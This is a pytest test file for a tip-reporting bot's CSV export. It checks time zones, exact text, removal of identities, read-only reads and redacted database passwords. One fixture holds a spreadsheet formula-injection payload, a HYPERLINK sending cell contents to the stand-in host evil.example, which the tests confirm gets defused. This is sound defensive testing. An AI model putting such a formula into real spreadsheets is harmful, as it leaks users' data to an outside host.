"""The deployer's `porchlight export`: tips as CSV for a department's records. What a
department gets (days in TIMEZONE, text exactly as written, formulas defused) and what it never
gets (who the resident is, which officer did what)."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.__main__ import main
from bot.config import redact
from bot.export import spreadsheet_safe
from storage.db import DATABASE_ERRORS, apply_migrations, connect, migration_files
from tests.conftest import World

PORCHLIGHT = Path(sys.executable).with_name("porchlight")
HEADER = [
    "reference",
    "filed_at",
    "category",
    "category_code",
    "urgent",
    "status",
    "acknowledged_at",
    "first_answer_at",
    "resolved_at",
    "minutes_to_first_answer",
    "rating",
    "place",
    "latitude",
    "longitude",
    "description",
    "media",
    "follow_ups",
]
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
AWKWARD = 'Two men, one "tall",\nchecking car doors, then <b>ran</b> off & hid; 3 > 2'
AWKWARD_PLACE = 'Corner of 5th, "Main" & <Oak>'


@pytest.fixture
def deployer(tmp_path: Path, database: str, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The deployer's shell: the world's database (DATABASE_PATH, or DATABASE_URL on
    PostgreSQL) and TIMEZONE, no token, no .env."""
    monkeypatch.chdir(tmp_path)
    for name in ("BOT_TOKEN", "OFFICER_CHAT_ID", "DATABASE_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABASE_PATH", str(tmp_path / "porchlight.sqlite3"))
    if database.startswith("postgresql://"):
        monkeypatch.setenv("DATABASE_URL", database)
    monkeypatch.setenv("TIMEZONE", "Europe/Madrid")
    return tmp_path


async def export(*args: str) -> int:
    """`porchlight export …` in this process, from a thread: the command runs its own event
    loop, as it does from a shell, while the story's bot keeps running on this one."""
    return await asyncio.to_thread(main, ["export", *args])


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


async def three_weeks_of_tips(world: World) -> dict[str, object]:
    """#1 named, with a pin, answered after 12 minutes, followed up, resolved and rated
    (25 Nov, Madrid);
    #2 anonymous, awkward text and place (26 Nov); #3 at 00:30 on 28 Nov in Madrid, which is
    still 27 Nov in UTC."""
    alice = world.resident("Alice", last_name="Walker", username="alice_w")
    dana = world.officer("Dana", username="dana_ops")
    await alice.says("/report")
    await alice.taps("Suspicious vehicle")
    await alice.says(FORMULA)
    await alice.shares_location(40.4168, -3.7038)
    await alice.taps("Skip")
    await alice.taps("Share my name with officers")
    await alice.taps("Send")
    card = await world.officer_chat.next_message()
    assert "Alice Walker" in card.text  # the officers were told the name she shared
    await world.advance(12 * 60)
    await dana.replies_to(card, text="Which way did it go?")
    await alice.replies_to(alice.last_message(), text="Towards the station")
    await dana.taps("✅ Resolve", card)
    await alice.taps("4 ★")

    world.clock.set(datetime(2026, 11, 26, 9, 15, tzinfo=UTC))
    bob = world.resident("Bob", username="bob_b")
    await bob.says("/report")
    await bob.taps("Suspicious person")
    await bob.says(AWKWARD)
    await bob.says(AWKWARD_PLACE)
    await bob.taps("Skip")
    await bob.taps("Anonymous (recommended)")
    await bob.taps("Send")

    world.clock.set(datetime(2026, 11, 27, 23, 30, tzinfo=UTC))
    carol = world.resident("Carol", username="carol_c")
    await carol.says("-1 for the new parking rules, cars block the ramp")
    await carol.taps("Yes, send as a tip")
    await carol.taps("Send")
    assert "your tip is #3." in carol.last_message().text
    return {"residents": [alice, bob, carol], "officer": dana}


async def test_an_export_holds_what_was_reported_and_nothing_of_who(
    world: World, deployer: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    people = await three_weeks_of_tips(world)
    out = deployer / "november.csv"
    code = await export("--since", "2026-11-25", "--until", "2026-11-27", "--output", str(out))
    assert code == 0
    assert capsys.readouterr().out.splitlines() == [
        f"Exported 2 tips filed 2026-11-25 to 2026-11-27 (Europe/Madrid) to {out}."
    ]
    first, second = read_csv(out)
    assert first["reference"] == "1"
    # Times in TIMEZONE to the second (the world's clock runs on from noon UTC as the story goes).
    assert first["filed_at"].startswith("2026-11-25T13:00:") and first["filed_at"][-6:] == "+01:00"
    assert (first["category"], first["category_code"]) == ("Suspicious vehicle", "vehicle")
    assert (first["urgent"], first["status"], first["rating"]) == ("no", "resolved", "4")
    assert first["resolved_at"].startswith("2026-11-25T13:12:")
    assert first["first_answer_at"].startswith("2026-11-25T13:12:")
    assert 12.0 <= float(first["minutes_to_first_answer"]) < 12.5
    assert (first["latitude"], first["longitude"]) == ("40.4168", "-3.7038")  # numbers stay
    assert first["description"] == "'" + FORMULA  # shown, never evaluated
    assert (first["media"], first["follow_ups"]) == ("0", "1")

    assert second["reference"] == "2"
    assert second["filed_at"].startswith("2026-11-26T10:15:")
    assert second["description"] == AWKWARD  # exactly as written: commas, quotes, lines, tags
    assert second["place"] == AWKWARD_PLACE
    assert second["first_answer_at"] == second["minutes_to_first_answer"] == ""

    raw = out.read_text(encoding="utf-8-sig")
    for person in [*people["residents"], people["officer"]]:  # type: ignore[list-item]
        for trace in (person.name, person.user.username, str(person.id)):
            assert trace and trace not in raw, trace
    assert "Walker" not in raw


async def test_days_are_counted_in_the_deployments_time_zone(world: World, deployer: Path) -> None:
    await three_weeks_of_tips(world)
    out = deployer / "tips.csv"
    assert await export("--since", "2026-11-28", "--output", str(out)) == 0
    [third] = read_csv(out)
    assert third["reference"] == "3"  # 23:30 UTC on the 27th is the 28th in Madrid
    assert third["filed_at"].startswith("2026-11-28T00:30:")
    assert third["description"] == "'-1 for the new parking rules, cars block the ramp"
    assert await export("--since", "2026-11-29", "--output", str(out)) == 0
    assert read_csv(out) == []  # the header alone


async def test_standard_output_carries_the_same_csv(world: World, tmp_path: Path) -> None:
    await three_weeks_of_tips(world)
    where = "DATABASE_URL" if world.database.startswith("postgresql://") else "DATABASE_PATH"
    env = {"PATH": os.environ.get("PATH", ""), where: world.database, "TIMEZONE": "Europe/Madrid"}
    process = await _run(tmp_path, env, "export", "--since", "2026-11-26")
    code, out, err = process
    assert (code, err) == (0, b"")
    assert out.startswith("\ufeff".encode())  # spreadsheets read it as UTF-8
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == ["2", "3"]
    assert rows[1][HEADER.index("description")] == AWKWARD


async def _run(tmp_path: Path, env: dict[str, str], *args: str) -> tuple[int, bytes, bytes]:
    process = await asyncio.create_subprocess_exec(
        str(PORCHLIGHT),
        *args,
        env=env,
        cwd=tmp_path,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(process.communicate(), 30)
    assert process.returncode is not None
    return process.returncode, out, err


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (
            ["--since", "2026-13-01"],
            "porchlight export: --since '2026-13-01' is not a date; write it like 2026-11-01 "
            "(a day in Europe/Madrid)",
        ),
        (
            ["--since", "2026-11-01", "--until", "yesterday"],
            "porchlight export: --until 'yesterday' is not a date; write it like 2026-11-01 "
            "(a day in Europe/Madrid)",
        ),
        (
            ["--since", "2026-11-30", "--until", "2026-11-01"],
            "porchlight export: --until 2026-11-01 is before --since 2026-11-30",
        ),
    ],
)
async def test_a_bad_date_is_one_line_and_status_2(
    world: World, deployer: Path, capsys: pytest.CaptureFixture[str], args: list[str], says: str
) -> None:
    assert await export(*args) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.splitlines() == [says]


@pytest.mark.sqlite_only(reason="a missing SQLite file; PostgreSQL's is a connection error")
def test_no_database_is_one_line_and_status_2(
    deployer: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--since", "2026-11-01"]) == 2
    assert capsys.readouterr().err.splitlines() == [
        f"porchlight export: there is no database at {deployer / 'porchlight.sqlite3'} "
        "(DATABASE_PATH)"
    ]
    assert not (deployer / "porchlight.sqlite3").exists(), "nothing was created"


def test_text_that_starts_like_a_formula_is_defused() -> None:
    for text in ("=1+1", "+31 6 1234", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_safe(text) == "'" + text
    for text in ("Blue car", "", "'quoted", " =1"):
        assert spreadsheet_safe(text) == text
    assert spreadsheet_safe(None) == ""


async def test_a_database_the_bot_has_not_upgraded_yet_is_one_line_and_status_2(
    deployer: Path, database: str, capsys: pytest.CaptureFixture[str]
) -> None:
    conn = await connect(database)
    if database.startswith("postgresql://"):
        # The template holds every migration: this one claims to stop at 7.
        await conn.execute("DELETE FROM schema_migrations WHERE version > 7")
        label = redact(database)
    else:
        await apply_migrations(conn, until=7)
        label = str(deployer / "porchlight.sqlite3")
    await conn.close()
    assert await export("--since", "2026-11-01") == 2
    [line] = capsys.readouterr().err.splitlines()
    newest = migration_files()[-1][0]
    assert line == (
        f"porchlight export: the database {label} is at schema "
        f"version 7 and this Porchlight expects {newest}: start the bot (or `porchlight "
        "migrate`) first"
    )


async def test_an_export_reads_one_snapshot_and_writes_nothing(
    world: World, deployer: Path, database: str
) -> None:
    """The export's transaction is read-only on both backends: a write inside it is refused,
    so a mistake in the query can never change a deployment's data."""
    from storage.records import reading

    await three_weeks_of_tips(world)
    async with reading(database) as conn:
        with pytest.raises(DATABASE_ERRORS) as refused:
            await conn.execute("UPDATE tips SET description = 'changed'")
    assert "read-only" in str(refused.value) or "readonly" in str(refused.value)
    async with world.porch.store.read() as tx:
        tip = await tx.tips.get(2)
    assert tip is not None and tip.description == AWKWARD


async def test_a_postgresql_out_of_reach_is_one_line_without_the_password(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", "postgresql://porchlight:s3cret@127.0.0.1:1/porchlight")
    assert await export("--since", "2026-11-01") == 2
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith(
        "porchlight export: cannot read the database postgresql://porchlight:***@127.0.0.1:1/"
    )
    assert line.endswith("check DATABASE_URL") and "s3cret" not in line
